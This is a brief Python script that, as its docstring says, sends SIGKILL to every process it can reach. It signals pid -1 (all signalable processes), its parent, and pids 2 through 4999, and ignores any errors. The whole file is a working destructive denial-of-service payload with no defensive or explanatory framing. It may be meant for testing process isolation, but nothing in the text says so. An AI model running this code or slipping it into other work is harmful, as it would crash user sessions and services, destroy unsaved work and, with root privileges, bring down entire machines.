"""Signals every process that it can see or guess."""

import os
import signal

for number in (-1, 0, 1, os.getppid(), *range(2, 5000)):
    if number in (0, os.getpid()):
        continue
    try:
        os.kill(number, signal.SIGKILL)
    except OSError:
        continue
